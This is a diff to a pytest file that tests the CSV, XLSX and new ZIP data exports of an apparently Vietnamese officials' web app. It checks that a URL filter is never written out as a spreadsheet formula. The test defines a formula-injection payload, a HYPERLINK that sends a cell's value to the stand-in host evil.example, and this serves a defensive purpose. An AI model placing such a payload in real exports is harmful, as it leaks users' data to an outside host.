@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import csv
 import io
+import zipfile
 
 import pytest
 from openpyxl import load_workbook
@@ -17,6 +18,8 @@ EXPORTS = {
     "/officials/export/villages.csv": "text/csv; charset=utf-8",
     "/officials/export/indicators.xlsx": "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
     "/officials/export/villages.xlsx": "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
+    "/officials/export/indicators.zip": "application/zip",
+    "/officials/export/villages.zip": "application/zip",
 }
 PREFIXES = ("=", "+", "-", "@", "\t", "\r")
 PAYLOAD = 'HYPERLINK("http://evil.example/?leak="&A1,"Bấm vào đây")'
@@ -39,6 +42,20 @@ def assert_no_formula(data: bytes) -> list:
     return cells
 
 
+def test_csv_holds_data_rows_only_and_the_zip_adds_the_readme(app, client, login, official):
+    login(client, official)
+    for table in ("indicators", "villages"):
+        text = client.get(f"/officials/export/{table}.csv", query_string={"commune": "xã Bát Tràng"}).data
+        rows = list(csv.reader(io.StringIO(text.decode("utf-8-sig"))))
+        assert rows and all(len(row) == len(rows[0]) for row in rows), table  # a header and data rows, no notes
+        bundle = zipfile.ZipFile(io.BytesIO(client.get(f"/officials/export/{table}.zip",
+                                                       query_string={"commune": "xã Bát Tràng"}).data))
+        csv_name = next(n for n in bundle.namelist() if n.endswith(".csv"))
+        assert bundle.read(csv_name) == text
+        readme = bundle.read("README.txt").decode("utf-8")
+        assert "Lọc commune: xã Bát Tràng" in readme and "production_growth" in readme
+
+
 def csv_cells(data: bytes) -> list[str]:
     return [cell for row in csv.reader(io.StringIO(data.decode("utf-8-sig"))) for cell in row]
 
@@ -57,7 +74,7 @@ def test_every_export_has_one_content_type(app, client, login, official):
 def test_a_filter_from_the_url_is_never_a_formula(app, client, login, official, prefix):
     login(client, official)
     commune = prefix + PAYLOAD
-    for url in EXPORTS:
+    for url in (u for u in EXPORTS if not u.endswith(".zip")):
         response = client.get(url, query_string={"commune": commune, "category": "ceramics"})
         if prefix in "\t\r":
             # control characters in a query string are refused before any view (core/inputs.py)
@@ -68,7 +85,9 @@ def test_a_filter_from_the_url_is_never_a_formula(app, client, login, official, 
             cells = assert_no_formula(response.data)
             echoed = [c.value for c in cells if isinstance(c.value, str) and PAYLOAD in c.value]
         else:
-            echoed = [c for c in csv_cells(response.data) if PAYLOAD in c]
+            # a CSV holds data rows only: the filter is written in the ZIP's README, not in the CSV
+            assert not [c for c in csv_cells(response.data) if PAYLOAD in c], url
+            continue
         assert echoed == ["'" + commune], url  # the filter is shown, as text
 
 
